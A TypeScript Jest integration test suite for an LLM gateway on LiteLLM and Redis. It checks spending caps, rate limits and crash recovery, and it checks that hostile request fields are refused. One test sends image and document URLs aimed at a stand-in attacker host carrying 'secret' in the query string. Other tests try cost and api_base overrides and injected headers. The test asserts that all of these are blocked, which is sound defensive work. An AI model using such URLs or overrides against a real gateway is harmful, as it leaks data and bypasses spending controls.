/** Caps and limits on the real LiteLLM and Redis: they hold with 20 calls at once, and over kill -9 of either. */
import type * as http from "node:http";
import { Deployment, gpt, sonnet, sonnetCallUsd, type Answer } from "./support/deployment";

jest.setTimeout(180_000);

/** A provider that begins a stream and never ends it. */
const trickle: http.RequestListener = (request, response) => {
  request.resume();
  response.writeHead(200, { "content-type": "text/event-stream" });
  const delta = { role: "assistant", content: "slowly" };
  response.write(
    `data: ${JSON.stringify({ id: "x", object: "chat.completion.chunk", created: 1, model: "gpt-4o", choices: [{ index: 0, delta }] })}\n\n`,
  );
};

/** The first gateway has the whole of a model. */
const all = { openclaw: 1 };
const deployment = new Deployment({
  stands: { trickle },
  webhook: true,
  gateways: [
    { name: "openclaw", requestsPerMinute: 10_000, maxParallelRequests: 30 },
    { name: "second", budgetUsd: 0.2, requestsPerMinute: 10_000, maxParallelRequests: 30 },
    { name: "hasty", requestsPerMinute: 3, models: ["open"] },
    { name: "narrow", maxParallelRequests: 2, models: ["open"] },
    { name: "wordy", tokensPerMinute: 4000, requestsPerMinute: 1000, models: ["open"] },
    { name: "neighbour", models: ["shared"], requestsPerMinute: 1000, maxParallelRequests: 30 },
  ],
  models: [
    { ...sonnet, name: "plain", budgetUsd: 0.1, shares: all },
    { ...sonnet, name: "streamed", budgetUsd: 0.1, shares: all },
    { ...sonnet, name: "broken", retries: 0 },
    { ...gpt, name: "trickle" },
    { ...sonnet, name: "open" },
    { ...sonnet, name: "slow-lane", requestsPerMinute: 2, shares: all },
    { ...sonnet, name: "shared", budgetUsd: 0.2, shares: { openclaw: 0.5, neighbour: 0.5 } },
    {
      ...sonnet,
      name: "dear",
      inputUsdPerMillionTokens: 100,
      outputUsdPerMillionTokens: 1000,
      budgetUsd: 1.5,
      shares: all,
    },
  ],
});
beforeAll(() => deployment.start());
afterAll(() => deployment.stop());

const key = (name: string): string => deployment.keys[name] ?? "";
const statuses = (answers: readonly Answer[]) => {
  const count = (status: number) => answers.filter((answer) => answer.status === status).length;
  return { ok: count(200), refused: count(429), other: answers.length - count(200) - count(429) };
};
const atOnce = (count: number, make: (index: number) => Promise<Answer>) =>
  Promise.all(Array.from({ length: count }, (_, index) => make(index)));
const slowReplies = (count: number) =>
  deployment.world.script.add(
    "anthropic",
    Array.from({ length: count }, () => ({ delayMs: 700 })),
  );

describe.each([
  ["plain", false],
  ["streamed", true],
])("20 calls at once, %s, under a cap that five fit into", (model, stream) => {
  it("five pass, fifteen are refused before they reach the provider, and the cap is kept to the cent", async () => {
    slowReplies(20);
    const before = deployment.world.recorder.list(0, "anthropic").length;
    const answers = await atOnce(20, () => deployment.chat(model, "one of twenty", { stream }));
    deployment.world.script.clear();
    expect(statuses(answers)).toEqual({ ok: 5, refused: 15, other: 0 });
    expect(deployment.world.recorder.list(0, "anthropic").length - before).toBe(5);
    await deployment.settled(`model:${model}`);
    const { spent } = await deployment.spending(`model:${model}`);
    expect(spent).toBeCloseTo(5 * sonnetCallUsd, 9);
    expect(spent).toBeLessThanOrEqual(0.1);
    const refused = answers.find(({ status }) => status === 429);
    expect(refused?.text).toMatch(new RegExp(`spending cap: model:${model} has spent .* of \\$0\\.1`));
    expect(Number(refused?.headers.get("retry-after"))).toBeGreaterThan(0);
  });
});

it("a gateway's cap holds over all its models, and is that gateway's alone", async () => {
  const answers: Answer[] = [];
  for (let index = 0; index < 14; index++)
    answers.push(await deployment.chat("open", "again", {}, key("second")));
  const passed = statuses(answers).ok;
  expect(passed).toBeGreaterThanOrEqual(9);
  expect(passed).toBeLessThanOrEqual(11);
  expect(statuses(answers)).toEqual({ ok: passed, refused: 14 - passed, other: 0 });
  expect((await deployment.spending("gateway:second")).spent).toBeLessThanOrEqual(0.2);
  expect((await deployment.chat("open", "mine")).status).toBe(200);
});

it("a gateway that uses up its share of a model leaves another one all of its own, and both together keep the cap", async () => {
  slowReplies(20);
  const answers = await atOnce(20, () => deployment.chat("shared", "greedy"));
  deployment.world.script.clear();
  expect(statuses(answers)).toEqual({ ok: 5, refused: 15, other: 0 });
  const refused = answers.find(({ status }) => status === 429);
  expect(refused?.text).toMatch(/spending cap: share:openclaw of shared has spent .* of \$0\.1/);
  const modest: Answer[] = [];
  for (let index = 0; index < 7; index++)
    modest.push(await deployment.chat("shared", "mine", {}, key("neighbour")));
  const passed = statuses(modest).ok;
  expect(passed).toBeGreaterThanOrEqual(4);
  expect(passed).toBeLessThanOrEqual(5);
  await deployment.settled("model:shared");
  expect((await deployment.spending("model:shared")).spent).toBeLessThanOrEqual(0.2);
  const { stdout } = await deployment.spendStore("status");
  expect(stdout).toMatch(/share:openclaw of shared: spent \$0\.09\d+, .* of \$0\.1; resets in/);
});

it("the dearest outcome counts, not the likely one: an answer limit that does not fit is refused", async () => {
  expect((await deployment.chat("dear", "x", { max_tokens: 2000 })).text).toMatch(
    /this call may cost \$2\.\d+/,
  );
  expect((await deployment.chat("dear", "x", { max_tokens: 1 })).status).toBe(200);
});

it("prices, answer counts, callbacks and other places in a body or header: refused, or without any effect", async () => {
  const { recorder } = deployment.world;
  const seen = recorder.list(0).at(-1)?.seq ?? 0;
  const body = {
    ...{ model: "open", messages: [{ role: "user", content: "priced" }], max_tokens: 100_000 },
    ...{ metadata: { tags: ["x"] }, store: true, user: "somebody" },
  };
  const wide = {
    ...{ n: 50, input_cost_per_token: 0, output_cost_per_token: 0, "no-log": true, mock_response: "free" },
    ...{ api_base: "http://203.0.113.9", fallbacks: ["dear"], num_retries: 9, user_config: {} },
    ...{
      service_tier: "priority",
      web_search_options: {},
      extra_body: { n: 50 },
      extra_headers: { "x-evil": "1" },
    },
  };
  for (const [key, value] of Object.entries(wide)) {
    const answer = await deployment.ask("/v1/chat/completions", { ...body, [key]: value });
    expect([answer.status, reason(answer)]).toEqual([400, `${key} is not allowed here`]);
  }
  expect(recorder.list(seen, "anthropic")).toEqual([]);
  const headers = {
    "x-litellm-call-id": "mine",
    "x-litellm-num-retries": "9",
    "anthropic-beta": "fast-mode",
  };
  const before = (await deployment.spending("model:open")).spent;
  const answer = await deployment.ask("/v1/chat/completions?n=50", body, { headers });
  expect(answer.status).toBe(200);
  const names = [...answer.headers.keys()].filter(
    (name) => !["connection", "date", "keep-alive"].includes(name),
  );
  expect(names.sort()).toEqual(["content-length", "content-type"]);
  await deployment.settled("model:open");
  expect((await deployment.spending("model:open")).spent - before).toBeCloseTo(sonnetCallUsd, 9);
  const [sent, ...more] = recorder.list(seen, "anthropic");
  expect(more).toEqual([]);
  expect(sent?.body).toMatchObject({ max_tokens: 8192 });
  expect(JSON.stringify(sent)).not.toMatch(/x-evil|fast-mode|priority|web_search/);
});

it("a tool that the provider runs is refused", async () => {
  const answer = await deployment.chat("open", "x", {
    tools: [{ type: "web_search_20250305", name: "web_search" }],
  });
  expect([answer.status, reason(answer)]).toEqual([400, "tools[0].type is none of function"]);
});

it.each(["open", "trickle"])(
  "a picture by address, and what is named like a search, reach no provider (%s)",
  async (model) => {
    const seen = deployment.world.recorder.list(0).at(-1)?.seq ?? 0;
    const url = "https://attacker.example/c?d=secret";
    const say = (part: unknown) => ({ model, max_tokens: 10, messages: [{ role: "user", content: [part] }] });
    const asks: [string, unknown][] = [
      ["/v1/messages", say({ type: "image", source: { type: "url", url } })],
      ["/v1/messages", say({ type: "document", source: { type: "url", url } })],
      ["/v1/chat/completions", say({ type: "image_url", image_url: { url } })],
      ["/v1/messages", { ...say({ type: "text", text: "x" }), tools: [{ type: null, name: "web_search" }] }],
    ];
    for (const [path, body] of asks) expect((await deployment.ask(path, body)).status).toBe(400);
    expect(deployment.world.recorder.list(seen).filter(({ body }) => body !== null)).toEqual([]);
  },
);

it("a call that LiteLLM refuses by itself costs nothing, because nothing was sent", async () => {
  const before = await deployment.spending("model:open");
  const seen = deployment.world.recorder.list(0).at(-1)?.seq ?? 0;
  // What OpenAI has and Anthropic has not.
  const answer = await deployment.chat("open", "x", { presence_penalty: 1 });
  expect([answer.status, answer.text]).toEqual([400, expect.not.stringMatching(/Traceback|\.py/)]);
  await deployment.settled("model:open");
  expect(deployment.world.recorder.list(seen, "anthropic")).toEqual([]);
  expect((await deployment.spending("model:open")).spent).toBeCloseTo(before.spent, 9);
  const record = (await deployment.audit(1)).findLast(({ model }) => model === "open");
  expect(record).toMatchObject({ attempts: 1, costUsd: 0, result: "failed" });
});

it("a stream that breaks off, and one whose caller hangs up, has spent the worst case", async () => {
  deployment.world.script.add("anthropic", [{ drop: "middle" }]);
  await deployment.chat("broken", "bye", { stream: true });
  await deployment.settled("model:broken");
  expect((await deployment.spending("model:broken")).spent).toBeGreaterThan(sonnetCallUsd);

  const call = await fetch(`http://${deployment.address}:4000/v1/chat/completions`, {
    method: "POST",
    headers: { authorization: `Bearer ${key("openclaw")}` },
    body: JSON.stringify({
      model: "trickle",
      stream: true,
      max_tokens: 1000,
      messages: [{ role: "user", content: "hi" }],
    }),
  });
  const reader = call.body?.getReader();
  await reader?.read();
  expect((await deployment.spending("model:trickle")).reserved).toBeGreaterThan(0.01);
  await reader?.cancel();
  await deployment.settled("model:trickle");
  expect((await deployment.spending("model:trickle")).spent).toBeGreaterThan(0.01);
});

it("limits on requests, tokens and calls at a time refuse, each with its reason", async () => {
  const seconds = new Date().getSeconds();
  // All of it within one minute of the clock.
  if (seconds > 45) await new Promise((resolve) => setTimeout(resolve, (61 - seconds) * 1000));
  const hasty: string[] = [];
  for (let index = 0; index < 5; index++)
    hasty.push(reason(await deployment.chat("open", "x", {}, key("hasty"))));
  expect(hasty).toEqual([
    ...Array<string>(3).fill("200"),
    ...Array<string>(2).fill("gateway:hasty has a limit of 3 requests a minute"),
  ]);
  const wordy: string[] = [];
  for (let index = 0; index < 4; index++) {
    wordy.push(reason(await deployment.chat("open", "x", {}, key("wordy"))));
    await deployment.settled("gateway:wordy");
  }
  expect(wordy).toEqual([
    "200",
    "200",
    ...Array<string>(2).fill("gateway:wordy has a limit of 4000 tokens a minute"),
  ]);
  const lane: string[] = [];
  for (let index = 0; index < 3; index++) lane.push(reason(await deployment.chat("slow-lane", "x")));
  expect(lane).toEqual(["200", "200", "model:slow-lane has a limit of 2 requests a minute"]);
  // Over a crash of either.
  await deployment.restartRedis();
  expect(reason(await deployment.chat("slow-lane", "x"))).toMatch(/limit of 2 requests/);
  slowReplies(3);
  const side = await atOnce(3, () => deployment.chat("open", "x", {}, key("narrow")));
  deployment.world.script.clear();
  expect(side.map(reason).sort()).toEqual(["200", "200", "gateway:narrow has a limit of 2 calls at a time"]);
});

it("what was spent is still spent after kill -9 of Redis and of LiteLLM, with a call on its way counted as its worst case", async () => {
  deployment.world.script.add("anthropic", [{ hang: true }]);
  const before = await deployment.spending("model:open");
  const call = deployment.chat("open", "dies").catch(() => undefined);
  await deployment.until(
    "it is on its way",
    async () => (await deployment.spending("model:open")).reserved > 0,
  );
  await deployment.restartRedis();
  await deployment.restartLiteLLM();
  await call;
  for (const model of ["plain", "streamed"]) {
    expect(reason(await deployment.chat(model, "more"))).toMatch(/spending cap/);
    expect((await deployment.spending(`model:${model}`)).spent).toBeCloseTo(5 * sonnetCallUsd, 9);
  }
  const after = await deployment.spending("model:open");
  expect(after.reserved).toBe(0);
  expect(after.spent - before.spent).toBeGreaterThan(sonnetCallUsd);
  const lost = (await deployment.audit(1)).find(({ result }) => String(result).startsWith("lost"));
  expect(lost).toEqual({
    ...{
      time: expect.stringMatching(/^20\d\d-.*Z$/),
      call: expect.any(String),
      gateway: "openclaw",
      model: "open",
    },
    ...{ attempts: 1, costUsd: expect.any(Number), result: "lost: the process ended during the call" },
  });
  expect(lost?.["costUsd"]).toBeGreaterThan(sonnetCallUsd);
});

it("the webhook has been told once a period: near the cap, and that calls are refused", () => {
  const told = deployment.webhookBodies.filter(({ which }) => which === "model:plain");
  expect(told.map(({ what }) => what).sort()).toEqual(["near-cap", "refusing"]);
  expect(told[0]).toEqual({
    what: expect.any(String),
    which: "model:plain",
    spentUsd: expect.any(Number),
    capUsd: 0.1,
    resets: expect.stringMatching(/^20\d\d-.*T/),
    text: expect.any(String),
  });
});

it("every call has its one record", async () => {
  const records = await deployment.audit(60);
  const ids = records.map(({ call }) => call).filter((id) => id !== null);
  expect(new Set(ids).size).toBe(ids.length);
  const plain = records.filter(({ model }) => model === "plain");
  expect(plain.filter(({ result }) => result === "ok")).toHaveLength(5);
  expect(plain.filter(({ result }) => result === "refused: budget")).toHaveLength(16);
  expect(plain.find(({ result }) => result === "ok")).toEqual({
    time: expect.stringMatching(/^20\d\d-\d\d-\d\dT\d\d:\d\d:\d\dZ$/),
    call: expect.any(String),
    gateway: "openclaw",
    route: "/v1/chat/completions",
    model: "plain",
    answeredBy: "plain",
    attempts: 1,
    inputTokens: 1000,
    outputTokens: 1000,
    costUsd: sonnetCallUsd,
    status: 200,
    result: "ok",
    ms: expect.any(Number),
  });
});

function reason({ status, text }: Answer): string {
  if (status === 200) return "200";
  return (JSON.parse(text) as { error: { message: string } }).error.message;
}
